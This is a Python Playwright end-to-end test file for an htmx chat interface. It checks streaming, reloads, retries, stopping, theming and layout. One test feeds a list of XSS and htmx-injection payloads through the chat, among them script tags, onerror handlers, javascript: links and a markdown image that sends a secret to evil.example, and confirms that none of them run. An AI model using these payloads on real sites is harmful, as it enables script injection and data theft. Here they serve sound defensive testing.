"""The htmx page in a real browser, as a person uses it."""

from __future__ import annotations

import re
from dataclasses import replace
from pathlib import Path
from secrets import token_hex

import pytest
from playwright.sync_api import Browser, Page, expect

from e2e.chat_page import Cable, Chat
from tests.server_process import ServerProcess, server_process
from tests.upstream import Gate, Upstream, chat_answer, json_reply

FAILURE = json_reply(400, {"error": {"message": "no such model", "type": "invalid_request_error"}})

PAYLOADS = [
    "<script>window.owned = 1</script>",
    "<img src=x onerror='window.owned = 1'>",
    "![x](https://evil.example/?d=secret)",
    "[click](javascript:window.owned=1)",
    '<hx-partial hx-target="body" hx-swap="innerHTML">owned</hx-partial>',
    '<div hx-get="/api/ai/conversations" hx-trigger="load" hx-target="body">x</div>',
    '<div hx-sse:connect="/c/x/stream" hx-on:click="window.owned=1">x</div>',
    "`</template></hx-partial><script>window.owned = 1</script>`",
    "```html\n<script>window.owned = 1</script>\n```",
    "<title>owned</title><style>body { display: none }</style>",
]


def test_a_first_message_is_answered_and_the_conversation_gets_an_address_and_a_name(chat: Chat) -> None:
    chat.open()
    expect(chat.page.get_by_role("heading", name="What shall we talk about?")).to_be_visible()
    expect(chat.page.get_by_text("This is the demo.")).to_be_visible()
    answer = chat.ask("say **hello** there")
    expect(answer.locator("strong")).to_have_text("hello")
    expect(chat.questions).to_have_text("say **hello** there")
    expect(chat.box).to_have_value("")
    expect(chat.page).to_have_url(re.compile(r"/c/chat-[\w-]+$"))
    expect(chat.page).to_have_title("say **hello** there")
    expect(chat.listed.first).to_have_attribute("aria-current", "page")
    expect(chat.page.get_by_role("heading", name="What shall we talk about?")).to_have_count(0)
    expect(chat.answers.last).to_contain_text(re.compile(r"echo · \d+ tokens · [\d.]+ s"))


def test_a_starter_begins_a_conversation(chat: Chat) -> None:
    chat.open()
    chat.page.get_by_role("button", name="List all demo commands").click()
    chat.wait()
    expect(chat.answers.locator("table")).to_be_visible()


def test_an_answer_grows_while_it_is_made(chat: Chat, upstream: Upstream) -> None:
    frames, gate = chat_answer("# Title\n\nfirst\n\nsecond *par", "agraph*"), Gate()
    upstream.reply([*frames[:2], gate, *frames[2:]])
    chat.open("fake-openai")
    chat.send("Write")
    expect(chat.answers.locator("h1")).to_have_text("Title")
    expect(chat.answers.locator(".prose p").last).to_have_text("second par")
    first = chat.answers.locator("h1").element_handle()
    gate.open()
    expect(chat.answers.locator("em")).to_have_text("paragraph")
    chat.wait()
    assert first.evaluate("heading => heading.isConnected"), "a finished block was made anew"


def test_a_reload_shows_the_same_conversation(chat: Chat) -> None:
    chat.open()
    chat.ask("markdown")
    chat.ask("think", answers=2)
    before = chat.shown()
    blocks = chat.js(
        "[...document.querySelectorAll('.prose')].map(e => e.querySelectorAll('p,li,td,pre,h1,h2,h3').length)"
    )
    chat.page.reload()
    assert chat.shown() == before
    assert blocks == chat.js(
        "[...document.querySelectorAll('.prose')].map(e => e.querySelectorAll('p,li,td,pre,h1,h2,h3').length)"
    )


def test_a_reload_in_mid_answer_finds_it_again_with_nothing_missing_and_nothing_twice(
    chat: Chat, upstream: Upstream
) -> None:
    frames, gate = chat_answer("Once upon\n\n", "a time", " there was an end.", reasoning=["Hm."]), Gate()
    upstream.reply([*frames[:4], gate, *frames[4:]])
    chat.open("fake-openai")
    chat.send("Tell me a story")
    expect(chat.answers.locator(".parts > .prose p").last).to_have_text("a time")
    chat.page.reload()
    expect(chat.answers.locator(".parts > .prose p").last).to_have_text("a time")
    expect(chat.page.get_by_role("button", name="Stop")).to_be_visible()
    gate.open()
    chat.wait()
    expect(chat.answers.locator(".parts > .prose p")).to_have_text(["Once upon", "a time there was an end."])
    expect(chat.questions).to_have_count(1)
    expect(chat.answers.locator("details")).to_have_count(1)
    chat.ask("Thank you", answers=2)
    assert [message["role"] for message in chat.stored()] == ["user", "assistant"] * 2


def test_an_answer_that_ends_while_the_page_is_away_is_there_when_it_comes_back(chat: Chat, upstream: Upstream) -> None:
    frames, gate = chat_answer("Once upon", " a time"), Gate()
    upstream.reply([*frames[:2], gate, *frames[2:]])
    chat.open("fake-openai")
    chat.send("Tell me a story")
    expect(chat.answers).to_contain_text("Once upon")
    address = chat.page.url
    chat.page.get_by_role("link", name="New chat").first.click()
    expect(chat.page.get_by_role("heading", name="What shall we talk about?")).to_be_visible()
    gate.open()
    upstream.requests[-1].answered.wait()
    chat.page.goto(address)
    chat.wait()
    expect(chat.answers.locator(".prose")).to_have_text("Once upon a time")


def test_a_lost_connection_is_said_and_found_again(page: Page, tmp_path: Path) -> None:
    with Cable() as cable, server_process(tmp_path, environment={"PALAVER_ALLOWED_HOSTS": cable.host}) as server:
        cable.plug(server.url)
        chat = Chat(page, replace(server, url=f"http://{cable.host}"))
        chat.open()
        chat.send("slow 30")
        expect(chat.answers.locator(".prose p")).to_be_visible()
        cable.cut()
        expect(page.get_by_text("The connection was lost.")).to_be_visible()
        cable.plug(server.url)
        expect(page.get_by_text("The connection was lost.")).to_have_count(0)
        chat.wait()
        (question, answer) = chat.stored()
        expect(chat.answers.locator(".prose")).to_have_text(answer["parts"][-1]["text"])
        expect(chat.questions).to_have_text(question["parts"][0]["text"])


def test_two_tabs_see_the_same_answer(chat: Chat, upstream: Upstream) -> None:
    frames, gate = chat_answer("Once upon", " a time"), Gate()
    upstream.reply([*frames[:2], gate, *frames[2:]])
    chat.open("fake-openai")
    chat.send("Tell me a story")
    expect(chat.answers).to_contain_text("Once upon")
    other = Chat(chat.page.context.new_page(), chat.server, chat.complaints)
    other.watch()
    other.page.goto(chat.page.url)
    other.page.bring_to_front()  # a tab that nobody sees waits until somebody does
    expect(other.answers).to_contain_text("Once upon")
    gate.open()
    for tab in (chat, other):
        tab.page.bring_to_front()
        tab.wait()
        expect(tab.answers.locator(".prose")).to_have_text("Once upon a time")


def test_conversations_are_switched_by_the_list(chat: Chat) -> None:
    first, second = f"say {token_hex(4)}", f"say {token_hex(4)}"
    chat.open()
    chat.ask(first)
    chat.page.get_by_role("link", name="New chat").first.click()
    chat.ask(second)
    chat.page.get_by_role("link", name=first, exact=True).click()
    expect(chat.questions).to_have_text(first)
    expect(chat.page.get_by_role("heading", level=1)).to_have_text(first)
    chat.page.go_back()
    expect(chat.questions).to_have_text(second)


def test_a_changed_preset_answers_and_stays_after_a_reload(chat: Chat) -> None:
    chat.open()
    expect(chat.ask("say hi")).to_have_text("hi")
    picker = chat.page.get_by_label("Preset")
    with chat.page.expect_response(re.compile("/api/ai/blocks/")) as kept:
        picker.select_option("fake-openai")
    assert kept.value.ok
    chat.page.reload()
    expect(picker).to_have_value("fake-openai")
    expect(chat.ask("say hi", answers=2)).to_have_text("Hello from upstream.")
    expect(chat.answers.last).to_contain_text("tiny")


def test_in_a_new_chat_the_greeting_names_the_chosen_preset(chat: Chat) -> None:
    chat.open()
    chat.page.get_by_label("Preset").select_option("fake-openai")
    expect(chat.page.locator("#welcome")).to_contain_text("fake-openai answers, with tiny")
    expect(chat.ask("Hello")).to_have_text("Hello from upstream.")


def test_a_failure_before_the_answer_says_why_and_can_be_tried_again(chat: Chat, upstream: Upstream) -> None:
    upstream.reply(FAILURE)
    chat.open("fake-openai")
    chat.send("Hello?")
    expect(chat.answers.locator(".failure")).to_be_visible()
    chat.box.fill("a draft")
    chat.page.get_by_role("button", name="Try again").click()
    expect(chat.answers.locator(".prose")).to_have_text("Hello from upstream.")
    chat.wait()
    expect(chat.questions).to_have_count(1)
    expect(chat.box).to_have_value("a draft")
    assert [message["role"] for message in chat.stored()] == ["user", "assistant"]


def test_a_failure_in_mid_answer_keeps_what_was_said_until_it_is_tried_again(chat: Chat, upstream: Upstream) -> None:
    upstream.reply([*chat_answer("Half an answer", finish=None)])
    chat.open("fake-openai")
    answer = chat.ask("Hello?")
    expect(answer).to_have_text("Half an answer")
    expect(chat.answers.locator(".failure")).to_be_visible()
    chat.page.reload()
    expect(chat.answers.locator(".failure")).to_be_visible()
    chat.page.get_by_role("button", name="Try again").click()
    expect(chat.answers.locator(".prose")).to_have_text("Hello from upstream.")
    expect(chat.answers.locator(".failure")).to_have_count(0)


def test_the_last_answer_can_be_had_anew(chat: Chat, upstream: Upstream) -> None:
    upstream.reply(chat_answer("First"), chat_answer("Second"))
    chat.open("fake-openai")
    expect(chat.ask("Hello?")).to_have_text("First")
    chat.page.get_by_role("button", name="Answer again").click()
    expect(chat.answers.locator(".prose")).to_have_text("Second")
    chat.wait()
    expect(chat.questions).to_have_count(1)


@pytest.mark.parametrize("way", ["button", "key"])
def test_stop_ends_the_answer_and_keeps_what_was_said(chat: Chat, upstream: Upstream, way: str) -> None:
    upstream.reply([*chat_answer("Once upon", " a time")[:3], "hold"])
    chat.open("fake-openai")
    chat.send("Tell me a story")
    expect(chat.answers).to_contain_text("Once upon a time")
    if way == "button":
        chat.page.get_by_role("button", name="Stop").click()
    else:
        chat.page.keyboard.press("Escape")
    chat.wait()
    expect(chat.answers).to_contain_text("Stopped.")
    upstream.requests[-1].gone.wait()
    assert chat.stored()[-1]["metadata"]["status"] == "stopped"
    expect(chat.ask("And then?", answers=2)).to_have_text("Hello from upstream.")


def test_a_message_that_is_not_accepted_stays_in_the_box(chat: Chat) -> None:
    chat.open(block="chat-" + token_hex(4))
    chat.js("document.querySelector('#preset').selectedOptions[0].value = 'nobody'")
    chat.send("Hello?")
    expect(chat.page.get_by_role("alert")).to_contain_text("no preset of this name")
    expect(chat.box).to_have_value("Hello?")
    expect(chat.questions).to_have_count(0)
    assert chat.complaints.pop().startswith("error: Failed to load resource: the server responded with a status of 400")


@pytest.mark.parametrize("model", ["echo", "fake-openai"])
def test_nothing_that_a_model_says_runs_or_is_loaded(chat: Chat, upstream: Upstream, model: str) -> None:
    chat.open(model)
    if model == "fake-openai":
        texts = "\n\n".join(PAYLOADS)
        pieces = [texts[start : start + 7] for start in range(0, len(texts), 7)]
        upstream.reply(chat_answer(*pieces, reasoning=pieces))
        answer = chat.ask("\n\n".join(PAYLOADS))
        for payload in PAYLOADS[:2]:
            expect(answer.locator("> .prose")).to_contain_text(payload)
    else:
        chat.ask("html")
    chat.page.reload()
    chat.page.wait_for_load_state("networkidle")
    for answer in chat.answers.all():
        assert answer.locator("script, img, iframe, style, [hx-get], [onerror], [href^=javascript]").count() == 0
    assert chat.js("window.owned") is None
    expect(chat.box).to_be_visible()


def test_code_is_coloured_and_can_be_copied(chat: Chat) -> None:
    chat.page.context.grant_permissions(["clipboard-read", "clipboard-write"], origin=chat.server.url)
    chat.open()
    for times in (1, 2):
        if times == 1:
            chat.ask("say ```python\nprint('hi')  # there\n```")
        else:
            chat.page.reload()
        expect(chat.answers.locator("pre .c1")).to_have_text("# there")
        expect(chat.answers.locator(".code-bar")).to_contain_text("python")
        chat.page.get_by_role("button", name="Copy the code").click()
        expect(chat.page.locator("[data-copied]")).to_have_count(1)
        assert chat.js("navigator.clipboard.readText()") == "print('hi')  # there\n"


def test_thinking_is_folded(chat: Chat) -> None:
    chat.open()
    chat.ask("think")
    thoughts = chat.answers.locator("details .prose")
    expect(thoughts).to_be_hidden()
    chat.answers.locator("summary").click()
    expect(thoughts).to_be_visible()


def test_enter_sends_and_shift_enter_does_not(chat: Chat) -> None:
    chat.open()
    chat.box.press_sequentially("say a")
    chat.page.keyboard.press("Shift+Enter")
    chat.page.keyboard.type("b")
    # Enter that ends a word of an input method
    chat.js(
        "document.querySelector('#text').dispatchEvent(new KeyboardEvent('keydown',"
        " {key: 'Enter', isComposing: true, bubbles: true, cancelable: true}))"
    )
    expect(chat.box).to_have_value("say a\nb")
    chat.page.keyboard.press("Enter")
    chat.wait()
    expect(chat.questions).to_have_text("say a\nb")


def test_a_reader_who_scrolled_up_is_left_alone(chat: Chat, upstream: Upstream) -> None:
    frames, gate = chat_answer(*[f"Paragraph {number}.\n\n" for number in range(80)]), Gate()
    upstream.reply([*frames[:61], gate, *frames[61:]])
    chat.open("fake-openai")
    chat.send("Write a lot")
    expect(chat.answers).to_contain_text("Paragraph 59.")
    distance = "document.scrollingElement.scrollHeight - innerHeight - scrollY"
    chat.until(f"{distance} < 5")
    chat.page.mouse.move(600, 300)
    chat.page.mouse.wheel(0, -600)
    to_end = chat.page.get_by_role("button", name="Jump to the end")
    expect(to_end).to_be_visible()
    position = chat.js("scrollY")
    gate.open()
    chat.wait()
    assert chat.js("scrollY") == position
    to_end.click()
    chat.until(f"{distance} < 5")


@pytest.mark.parametrize("width", [320, 390, 1280])
def test_no_width_scrolls_sideways(chat: Chat, width: int) -> None:
    chat.page.set_viewport_size({"width": width, "height": 800})
    chat.open()
    assert chat.js("document.scrollingElement.scrollWidth") <= width
    chat.ask("markdown")
    chat.ask("x" * 500, answers=2)
    chat.ask("error midway", answers=3)
    assert chat.js("document.scrollingElement.scrollWidth") <= width


def test_on_a_phone_the_list_is_a_drawer(chat: Chat) -> None:
    chat.page.set_viewport_size({"width": 390, "height": 844})
    chat.open()
    chat.ask("say hi")
    drawer = chat.page.get_by_role("navigation")
    expect(drawer).to_be_hidden()
    chat.page.get_by_role("button", name="Conversations").click()
    expect(drawer.get_by_role("link", name="say hi").first).to_be_visible()
    chat.page.keyboard.press("Escape")
    expect(drawer).to_be_hidden()


def test_colours_follow_the_system_until_they_are_chosen(chat: Chat) -> None:
    background = "getComputedStyle(document.body).backgroundColor"
    chat.page.emulate_media(color_scheme="light")
    chat.open()
    light = chat.js(background)
    chat.page.emulate_media(color_scheme="dark")
    dark = chat.js(background)
    assert light != dark
    chat.page.get_by_title("Light", exact=True).click()
    assert chat.js(background) == light
    chat.page.reload()
    assert chat.js(background) == light
    chat.page.get_by_title("As the system").click()
    assert chat.js(background) == dark


def test_without_javascript_a_form_leads_to_the_whole_answer(browser: Browser, server: ServerProcess) -> None:
    with browser.new_context(java_script_enabled=False) as context:
        chat = Chat(context.new_page(), server)
        chat.open()
        chat.send("say **hello**")
        expect(chat.answers.locator("strong")).to_have_text("hello")
        chat.send("error")
        expect(chat.page.get_by_text("This message has no answer.")).to_be_visible()
        expect(chat.questions).to_have_count(2)


def test_a_real_model_talks_to_the_page(chat: Chat) -> None:
    chat.open("llama")
    answer = chat.ask("Hello")
    assert answer.inner_text().strip()
    before = chat.shown()
    chat.page.reload()
    assert chat.shown() == before
